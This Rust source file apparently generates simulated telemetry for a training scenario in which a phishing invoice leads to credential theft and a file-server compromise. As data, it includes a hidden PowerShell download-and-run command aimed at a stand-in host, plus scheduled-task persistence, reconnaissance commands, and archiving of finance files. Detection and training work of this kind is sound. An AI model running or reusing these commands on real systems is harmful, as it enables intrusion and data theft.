//! The first intrusion: an invoice by mail that ends on the file server.
//!
//! On the fourth workday before today six people get *Invoice 88213 overdue* from a domain that
//! looks like the partner's. The clerk opens the attachment. Word starts an encoded PowerShell,
//! which fetches a program that calls home every ten minutes, stays over a Run value and a
//! scheduled task, looks around and reads the memory of lsass, where the support engineer has
//! left the credentials of an administrator. In the evening these open the file server, where
//! the same program runs under another name and packs the finance share. One alert saw the
//! PowerShell; nothing saw the rest.

use std::net::Ipv4Addr;

use super::{
    super::{
        alerts::{Alert, Evidence},
        calendar::{HOUR, MINUTE, SECOND},
        company::{
            CLERK, DOMAIN_CONTROLLER, FILE_SERVER, JUMP_SERVER, PEOPLE, SUPPORT, SUPPORT_ADMIN,
            SYSTEM,
        },
        email::{Attachment, Delivery, Removal},
        endpoint_noise::powershell_libraries,
        events::{Session, Source},
        identity::{DirectoryLogon, DirectoryQuery},
        mail_noise::message,
        software::{Image, UNKNOWN},
        world::World,
    },
    encoded_command,
};

const DOCUMENT: &str = "Invoice_88213.docm";
const STAGE: (&str, Ipv4Addr) = (
    "cdn.fabrikam-billing.example",
    Ipv4Addr::new(198, 51, 100, 177),
);
const HOME: (&str, Ipv4Addr) = (
    "sync.fabrikam-billing.example",
    Ipv4Addr::new(198, 51, 100, 178),
);

/// What the intruder has after opening the document: a process, and the file it runs.
struct Foothold {
    session: Session,
    shell: usize,
    agent: usize,
    content: usize,
}

pub(super) fn generate(world: &mut World) {
    let day = world.calendar.workday(3);
    let document = world.content(94_208);
    letters(world, day, document);
    let foothold = opened(world, day, document);
    stays(world, &foothold);
    looks_around(world, &foothold);
    takes_credentials(world, &foothold);
    moves_on(world, &foothold);
    one_alert(world, &foothold);
}

fn letters(world: &mut World, day: i64, document: usize) {
    let time = world
        .random
        .time(day + 9 * HOUR + 10 * MINUTE, day + 9 * HOUR + 13 * MINUTE);
    let cluster = world.random.between(100_000_000, 4_000_000_000);
    let deliveries = [
        (1, Delivery::Inbox),
        (2, Delivery::Inbox),
        (CLERK, Delivery::Inbox),
        (8, Delivery::Junk),
        (10, Delivery::Inbox),
        (12, Delivery::Blocked),
    ];
    for (place, (person, delivery)) in (0..).zip(deliveries) {
        let sender = ("billing@fabrikam-billing.example", "Fabrikam Billing");
        let at = time + place * 2 * SECOND + 1_234_500;
        let mut letter = message(world, at, sender, PEOPLE + person, "Invoice 88213 overdue");
        letter.sender_ip = Ipv4Addr::new(203, 0, 113, 224);
        letter.cluster = cluster;
        letter.authenticated = false;
        letter.delivery = delivery;
        letter.threat = if delivery == Delivery::Blocked {
            "Malware"
        } else {
            ""
        };
        letter.attachments.push(Attachment {
            name: DOCUMENT.into(),
            content: document,
        });
        if delivery == Delivery::Inbox && person != CLERK {
            world.mail.later.push(Removal {
                time: day + 15 * HOUR + place * 700_000_100,
                message: letter.id.clone(),
                recipient: letter.recipient.clone(),
                threat: "Malware",
                by_admin: false,
            });
        }
        world.mail.messages.push(letter);
    }
}

fn opened(world: &mut World, day: i64, document: usize) -> Foothold {
    let session = world.session(CLERK, day);
    let time = world
        .random
        .time(day + 9 * HOUR + 31 * MINUTE, day + 9 * HOUR + 33 * MINUTE);
    let name = world.company.accounts[session.account].name.clone();
    let path = format!(
        r"C:\Users\{name}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7K2QX0PD\{DOCUMENT}"
    );
    world.file(session.outlook, time, "FileCreated", path.clone(), document);
    let command = format!(
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{path}\" /o \"\""
    );
    let editor = world.spawn(session.outlook, time + 2 * SECOND, "WINWORD.EXE", command);
    for (place, library) in (1..).zip([
        "ntdll.dll",
        "wwlib.dll",
        "mso.dll",
        "VBE7.DLL",
        "urlmon.dll",
    ]) {
        world.load(editor, time + 2 * SECOND + place * 410_000, library);
    }
    let key = format!(
        r"HKEY_CURRENT_USER\{}\SOFTWARE\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords",
        world.company.accounts[session.account].sid
    );
    world.set_value(editor, time + 40 * SECOND, key, path, "Binary Data");

    let target = format!(r"C:\Users\{name}\AppData\Local\Temp\invsync.exe");
    let script = format!(
        "$p=\"$env:LOCALAPPDATA\\Temp\\invsync.exe\"; Invoke-WebRequest -UseBasicParsing \
         'https://{}/88213/sync.bin' -OutFile $p; Start-Process $p",
        STAGE.0
    );
    let command = format!(
        "powershell.exe -NoP -W Hidden -EncodedCommand {}",
        encoded_command(&script)
    );
    let start = time + 44 * SECOND + 778_900;
    let shell = world.spawn(editor, start, "powershell.exe", command);
    powershell_libraries(world, shell);
    world.spawn(
        shell,
        start + 90_000_000,
        "conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    );
    world.connect(shell, start + 3 * SECOND, STAGE.1, 443, STAGE.0);
    let content = world.content(418_304);
    let fetched = world.file(
        shell,
        start + 4 * SECOND,
        "FileCreated",
        target.clone(),
        content,
    );
    fetched.origin = format!("https://{}/88213/sync.bin", STAGE.0).into();
    fetched.origin_ip = Some(STAGE.1);
    world.software.add(Image {
        name: "invsync.exe".into(),
        path: target.clone().into(),
        maker: &UNKNOWN,
        internal_name: "".into(),
        original_name: "".into(),
        description: "",
        content,
    });
    let agent = world.spawn(
        shell,
        start + 5 * SECOND,
        "invsync.exe",
        format!("\"{target}\""),
    );
    for (place, library) in (1..).zip(["ntdll.dll", "winhttp.dll", "crypt32.dll"]) {
        world.load(agent, start + 5 * SECOND + place * 330_000, library);
    }
    // The first call and then one every ten minutes, give or take, for a day.
    let mut at = start + 9 * SECOND;
    for _ in 0..140 {
        world.connect(agent, at, HOME.1, 443, HOME.0);
        at += world
            .random
            .time(9 * MINUTE + 20 * SECOND, 10 * MINUTE + 40 * SECOND);
    }
    Foothold {
        session,
        shell,
        agent,
        content,
    }
}

fn stays(world: &mut World, foothold: &Foothold) {
    let time = world.processes[foothold.agent].created + 70 * SECOND;
    let account = &world.company.accounts[foothold.session.account];
    let key = format!(
        r"HKEY_CURRENT_USER\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        account.sid
    );
    let path = world.image_path(foothold.agent).to_owned();
    let data = format!("\"{path}\" -s");
    world.set_value(foothold.agent, time, key, "InvoiceSync", data);
    let command =
        format!("schtasks.exe /create /sc hourly /tn \"Office Invoice Sync\" /tr \"{path}\" /f");
    let tasks = world.spawn(foothold.agent, time + 4 * SECOND, "schtasks.exe", command);
    world
        .event(tasks, time + 5 * SECOND, "ScheduledTaskCreated")
        .additional = "{\"TaskName\":\"\\\\Office Invoice Sync\"}".into();
}

fn looks_around(world: &mut World, foothold: &Foothold) {
    let time = world.processes[foothold.agent].created + 26 * MINUTE;
    let commands = [
        ("whoami.exe", "whoami  /all"),
        ("ipconfig.exe", "ipconfig  /all"),
        ("net.exe", "net  group \"Domain Admins\" /domain"),
        ("nltest.exe", "nltest  /dclist:contoso.com"),
        ("tasklist.exe", "tasklist  /v"),
        ("net.exe", r"net  view \\file01"),
    ];
    for (place, (image, command)) in (0..).zip(commands) {
        let at = time + place * 37_123_456_700;
        let shell = world.spawn(
            foothold.agent,
            at,
            "cmd.exe",
            format!("cmd.exe /c {command}"),
        );
        world.spawn(shell, at + 40_000_000, image, command);
    }
    for (place, target) in (0..).zip(["Domain Admins", "Server Operators", "Workstation Admins"]) {
        world.identity.queries.push(DirectoryQuery {
            time: time + 75 * SECOND + place * 1_200_300,
            action: "SAMR query",
            kind: "QueryGroup",
            target: target.into(),
            query: "".into(),
            account: foothold.session.account,
            device: CLERK,
        });
    }
    world.identity.queries.push(DirectoryQuery {
        time: time + 2 * MINUTE,
        action: "LDAP query",
        kind: "AllUsers",
        target: "contoso.com".into(),
        query: "(&(objectCategory=person)(adminCount=1))".into(),
        account: foothold.session.account,
        device: CLERK,
    });
    let controller = world.company.address(DOMAIN_CONTROLLER, time);
    world.connect(foothold.agent, time + 2 * MINUTE, controller, 389, "");
}

fn takes_credentials(world: &mut World, foothold: &Foothold) {
    // The support engineer helps with a printer and leaves credentials in memory.
    let day = foothold.session.day;
    let help = world
        .random
        .time(day + 11 * HOUR, day + 11 * HOUR + 20 * MINUTE);
    let source = Source::Device(SUPPORT);
    world.log_on(CLERK, help, "RemoteInteractive", SUPPORT_ADMIN, source);

    let time = world
        .random
        .time(day + 14 * HOUR + 2 * MINUTE, day + 14 * HOUR + 9 * MINUTE);
    let lsass = world.boot(CLERK, time).lsass;
    let event = world.event(foothold.agent, time, "OpenProcessApiCall");
    event.target = Some(lsass);
    event.additional = "{\"DesiredAccess\":\"0x1FFFFF\"}".into();
    world.load(foothold.agent, time - 2_100_000, "dbghelp.dll");
    let dump = world.content(61_865_984);
    let path = r"C:\Users\Public\Libraries\sync.dmp";
    world.file(foothold.agent, time + 4 * SECOND, "FileCreated", path, dump);
    world.file(foothold.agent, time + 3 * MINUTE, "FileDeleted", path, dump);
}

fn moves_on(world: &mut World, foothold: &Foothold) {
    let day = foothold.session.day;
    let time = world
        .random
        .time(day + 19 * HOUR + 40 * MINUTE, day + 19 * HOUR + 50 * MINUTE);
    let address = world.company.address(FILE_SERVER, time);
    world.connect(foothold.agent, time, address, 445, "file01.contoso.com");
    let from = Source::Device(CLERK);
    world.log_on(FILE_SERVER, time + SECOND, "Network", SUPPORT_ADMIN, from);
    if let Some(logon) = world.logons.last_mut() {
        logon.protocol = "NTLM";
    }
    let source = world.company.address(CLERK, time);
    world.identity.logons.push(DirectoryLogon {
        time: time + SECOND,
        application: "Active Directory",
        kind: "Credentials validation",
        protocol: "Ntlm",
        failure: "",
        account: SUPPORT_ADMIN,
        device: Some(CLERK),
        address: source,
        destination: Some(FILE_SERVER),
        location: "",
    });

    let boot = world.boot(FILE_SERVER, time).clone();
    let path = r"C:\Windows\invsvc.exe";
    let copied = world.file(
        boot.kernel,
        time + 3 * SECOND,
        "FileCreated",
        path,
        foothold.content,
    );
    copied.request = Some((SUPPORT_ADMIN, CLERK, "ADMIN$"));
    let key = r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\InvoiceSvc";
    world.set_value(boot.services, time + 5 * SECOND, key, "ImagePath", path);
    let event = world.event(boot.services, time + 5 * SECOND, "ServiceInstalled");
    event.path = path.into();
    event.content = Some(foothold.content);
    event.additional = "{\"ServiceName\":\"InvoiceSvc\",\"ServiceAccount\":\"LocalSystem\",\"ServiceStartType\":3}".into();
    world.software.add(Image {
        name: "invsvc.exe".into(),
        path: path.into(),
        maker: &UNKNOWN,
        internal_name: "".into(),
        original_name: "".into(),
        description: "",
        content: foothold.content,
    });
    let service = world.spawn_service(boot.services, time + 6 * SECOND, "invsvc.exe", path, SYSTEM);
    let shell = world.spawn(
        service,
        time + 4 * MINUTE,
        "cmd.exe",
        r"cmd.exe /c dir /s D:\Shares\Finance",
    );
    world.spawn(
        shell,
        time + 4 * MINUTE + 30_000_000,
        "conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0x4",
    );
    let command = r"tar.exe -a -c -f C:\Windows\Temp\fin.zip D:\Shares\Finance\Payments";
    let pack = world.spawn(service, time + 11 * MINUTE, "tar.exe", command);
    let archive = world.content(188_743_680);
    world.file(
        pack,
        time + 13 * MINUTE,
        "FileCreated",
        r"C:\Windows\Temp\fin.zip",
        archive,
    );
    world.connect(service, time + 20 * MINUTE, HOME.1, 443, HOME.0);
    let admin = world.company.address(JUMP_SERVER, time);
    world.connection(
        service,
        time + 30 * MINUTE,
        "ConnectionFailed",
        (admin, 445),
        "jump01.contoso.com",
        "Tcp",
    );
}

fn one_alert(world: &mut World, foothold: &Foothold) {
    let time = world.processes[foothold.shell].created + 4 * MINUTE;
    let id = format!("da{}_1", world.random.hex(24));
    world.alerts.alerts.push(Alert {
        time,
        id,
        title: "Suspicious PowerShell command line",
        category: "Execution",
        severity: "Medium",
        service: "Microsoft Defender for Endpoint",
        detection: "EDR",
        techniques: "[\"PowerShell (T1059.001)\",\"Obfuscated Files or Information (T1027)\"]",
        evidence: vec![
            Evidence::Device(CLERK),
            Evidence::Account(foothold.session.account),
            Evidence::Process(foothold.shell),
        ],
    });
}
